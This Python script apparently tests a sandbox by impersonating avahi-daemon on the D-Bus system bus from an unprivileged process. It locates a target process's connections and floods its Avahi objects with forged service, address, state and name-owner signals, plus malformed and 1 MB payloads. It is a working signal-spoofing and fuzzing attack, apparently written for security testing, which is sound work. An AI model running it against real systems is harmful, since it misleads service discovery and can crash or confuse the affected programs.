#!/usr/bin/python3
# An unprivileged process on the sandbox's bus posing as avahi-daemon to one
# client process. Run it on host A as uid nobody:
#   setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 forger.py \
#     PID TYPE INSTANCE HOST STOP_FILE
# It finds PID's connections (ListNames, GetConnectionUnixProcessID) and the
# daemon objects alive (the daemon answers Introspect for any client's
# object), and floods them with every signal the daemon sends its clients,
# unicast and broadcast, plausible and malformed, until STOP_FILE exists, PID
# ends or 60 s passed. JSON lines: "flooding" after the first round, "done"
# with counts; "delivered" counts unicast signals to a connection still there
# at the end. Any failure ends it with a traceback and a non-zero status.

import collections
import itertools
import json
import os
import socket
import sys
import time

import dbus.lowlevel

AVAHI = "org.freedesktop.Avahi"
KINDS = ("ServiceBrowser", "ServiceTypeBrowser", "ServiceResolver", "RecordBrowser", "EntryGroup")
HUGE = "E" * (1 << 20)
bus = dbus.SystemBus()
driver = dbus.Interface(bus.get_object("org.freedesktop.DBus", "/org/freedesktop/DBus"), "org.freedesktop.DBus")
sent, huge_sent = collections.Counter(), set()  # signals per destination (None: broadcast)


# (interface, member, signature, arguments) of the signals of an object of `kind`.
def signals(kind, type, instance, host, ifindex):
    i = AVAHI + "." + kind
    browsing = [(i, "AllForNow", "", []), (i, "CacheExhausted", "", []), (i, "Failure", "s", ["Not permitted"])]
    a, aaaa = dbus.ByteArray(b"\6\6\6\6"), dbus.ByteArray(bytes.fromhex("20010db8" + "0" * 21 + "666"))
    return {
        "ServiceBrowser": [(i, "ItemNew", "iisssu", [ifindex, 0, "EVIL injected", type, "local", 0]),
                           (i, "ItemRemove", "iisssu", [ifindex, 0, instance, type, "local", 0])] + browsing,
        "ServiceTypeBrowser": [(i, "ItemNew", "iissu", [ifindex, 0, "_evil._tcp", "local", 0]),
                               (i, "ItemRemove", "iissu", [ifindex, 0, type, "local", 0])] + browsing,
        "ServiceResolver": [(i, "Found", "iissssisqaayu", [ifindex, 0, instance, type, "local", "evil.local", 0,
                                                           "6.6.6.6", 6666, [dbus.ByteArray(b"evil=1")], 0])]
                           + browsing[2:],
        "RecordBrowser": [(i, "ItemNew", "iisqqayu", [ifindex, 0, host, 1, 1, a, 0]),
                          (i, "ItemNew", "iisqqayu", [ifindex, 1, host, 1, 28, aaaa, 0]),
                          (i, "ItemRemove", "iisqqayu", [ifindex, 0, host, 1, 1, a, 0])] + browsing,
        "EntryGroup": [(i, "StateChanged", "is", [3, "Local name collision"]),
                       (i, "StateChanged", "is", [4, "Not permitted"])],
        # The daemon's own, and the bus's word that it left or came back.
        "/": [(AVAHI + ".Server", "StateChanged", "is", [4, "Not permitted"]),
              (AVAHI + ".Server", "StateChanged", "is", [3, "Local name collision"])],
        "/org/freedesktop/DBus": [("org.freedesktop.DBus", "NameOwnerChanged", "sss", [AVAHI, ":1.1", ""]),
                                  ("org.freedesktop.DBus", "NameOwnerChanged", "sss", [AVAHI, "", ":6.66"])],
    }[kind]


# The signal as sent, then: no arguments, an array for the first value, a
# double and a string for an int32, an int32 for a string; and (huge) every
# string 1 MB long.
def shapes(signature, args, huge):
    types = list(dbus.Signature(signature))

    def swap(k, new, value):
        return "".join(types[:k] + [new] + types[k + 1:]), args[:k] + [value] + args[k + 1:]

    out = [(signature, args), ("", []), swap(0, "a" + types[0], [args[0]] * 2) if types else ("ai", [[6, 6]])]
    out += [swap(types.index("i"), "d", 6.66), swap(types.index("i"), "s", "6")] if "i" in types else [("i", [6])]
    out += [swap(types.index("s"), "i", 6)] if "s" in types else []
    out = list({shape[0]: shape for shape in out}.values())
    return out + ([(signature or "s", [HUGE if t == "s" else v for t, v in zip(types, args)] or [HUGE])] if huge else [])


def pid_of(name):
    try:
        return driver.GetConnectionUnixProcessID(name)
    except dbus.DBusException:
        return None  # gone meanwhile


def targets(pid):
    return [str(name) for name in driver.ListNames() if name.startswith(":") and pid_of(name) == pid]


# The daemon numbers its clients as they come: this one's number (`client`)
# tells where the target's, made before or after, lie.
def live_objects(client):
    paths = [("/Client%d/%s%d" % (n, kind, m), kind)
             for n in range(max(0, client - 8), client + 5) for m in range(1, 25) for kind in KINDS]
    return [(path, kind) for path, kind in paths if AVAHI + "." + kind in bus.call_blocking(
        AVAHI, path, "org.freedesktop.DBus.Introspectable", "Introspect", "", ())]


def send(path, kind, names, targets):
    for interface, member, signature, args in signals(kind, *names):
        huge = (path, member) not in huge_sent  # once each: 1 MB strings
        huge_sent.add((path, member))
        for (shape_signature, shape_args), target in itertools.product(shapes(signature, args, huge), targets + [None]):
            m = dbus.lowlevel.SignalMessage(path, interface, member)
            m.append(signature=shape_signature, *shape_args)
            if target:
                m.set_destination(target)
            sent[target] += 1
            bus.send_message(m)


def main(pid, type, instance, host, stop_file):
    names = (type, instance, host, socket.if_nametoindex(os.environ["ZELM_SANDBOX_IF_A"]))
    group = bus.get_object(AVAHI, "/").EntryGroupNew(dbus_interface=AVAHI + ".Server")
    bus.get_object(AVAHI, group).Free(dbus_interface=AVAHI + ".EntryGroup")
    client = int(group.split("/")[1][len("Client"):])
    deadline, rounds, seen = time.monotonic() + 60, 0, set()
    while time.monotonic() < deadline and not os.path.exists(stop_file) and os.path.exists("/proc/" + pid):
        found = targets(int(pid))
        objects = live_objects(client) if found else []
        if not objects:
            time.sleep(0.05)  # nothing to aim at yet
            continue
        for path, kind in objects + [("/", "/"), ("/org/freedesktop/DBus", "/org/freedesktop/DBus")]:
            send(path, kind, names, found)
        bus.flush()
        rounds += 1
        seen.update(path for path, _ in objects)
        if rounds == 1:
            print(json.dumps(dict(event="flooding", uid=os.getuid(), names=found, objects=sorted(seen))), flush=True)
    # What was sent to a connection still there was queued to it, in order.
    still = targets(int(pid))
    print(json.dumps(dict(event="done", rounds=rounds, objects=sorted(seen), broadcast=sent[None],
                          unicast=sum(n for c, n in sent.items() if c),
                          delivered=sum(n for c, n in sent.items() if c in still))), flush=True)


main(*sys.argv[1:6])
